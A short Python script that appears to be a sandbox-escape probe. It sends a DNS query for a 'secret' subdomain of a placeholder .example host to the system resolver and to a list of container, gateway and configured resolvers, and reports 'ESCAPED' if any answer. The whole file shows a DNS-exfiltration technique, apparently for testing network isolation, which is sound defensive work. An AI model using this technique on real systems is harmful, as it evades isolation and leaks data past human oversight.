"""Tells a secret by asking for a name, of every resolver that may be there."""

import socket
import struct

NAME = "secret.lab-attack-38.example"
try:
    print("ESCAPED", socket.getaddrinfo(NAME, 80))
except OSError as error:
    print("the resolver of this host:", error)
query = struct.pack(">6H", 0x2638, 0x0100, 1, 0, 0, 0)
query += b"".join(bytes([len(label)]) + label.encode() for label in NAME.split(".")) + b"\0\0\1\0\1"
resolvers = {"127.0.0.11", "127.0.0.53", "127.0.0.1", "172.17.0.1", "10.77.0.1", "198.51.100.53"}
with open("/etc/resolv.conf", encoding="ascii") as file:
    resolvers |= {line.split()[1] for line in file if line.startswith("nameserver")}
for resolver in sorted(resolvers):
    for port in (53, 47253):
        with socket.socket(socket.AF_INET6 if ":" in resolver else socket.AF_INET, socket.SOCK_DGRAM) as asks:
            asks.settimeout(0.05)
            try:
                asks.connect((resolver, port))
                asks.send(query)
                asks.recv(512)
                print("ESCAPED answered by", resolver)
            except OSError:
                continue
